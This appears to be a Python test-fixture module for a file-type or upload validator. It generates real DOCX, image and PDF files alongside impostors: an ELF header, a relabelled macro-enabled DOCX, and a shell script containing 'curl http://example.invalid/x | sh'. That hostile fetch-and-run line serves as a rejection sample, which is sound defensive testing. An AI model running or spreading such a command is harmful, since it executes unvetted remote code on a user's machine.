"""Real files of each kind, made by independent producers (python-docx, Pillow), and a few
impostors."""

import io
import struct
import zipfile

import docx
from PIL import Image


def docx_bytes(text: str = "Change plan for the licensing office") -> bytes:
    document = docx.Document()
    document.add_paragraph(text)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def image_bytes(kind: str, size: tuple[int, int] = (64, 48)) -> bytes:
    """PNG, JPEG or PDF (Pillow writes a one-page PDF with the image)."""
    buffer = io.BytesIO()
    Image.new("RGB", size, (30, 120, 200)).save(buffer, kind)
    return buffer.getvalue()


def pdf_bytes() -> bytes:
    return image_bytes("PDF")


def elf_bytes() -> bytes:
    """The start of a 64-bit Linux executable (ELF header), padded."""
    header = b"\x7fELF" + bytes([2, 1, 1, 0]) + bytes(8)
    header += struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0x401000, 64, 0, 0, 64, 56, 1, 64, 0, 0)
    return header + bytes(4096)


def script_bytes() -> bytes:
    return b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"


def plain_zip_bytes(names: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in names.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def docm_bytes() -> bytes:
    """A real DOCX re-labelled as macro-enabled (``.docm``): a ZIP with word/ parts, but not a
    WordprocessingML document as DOCX defines it."""
    source = zipfile.ZipFile(io.BytesIO(docx_bytes()))
    parts = {name: source.read(name) for name in source.namelist()}
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    return plain_zip_bytes(parts)
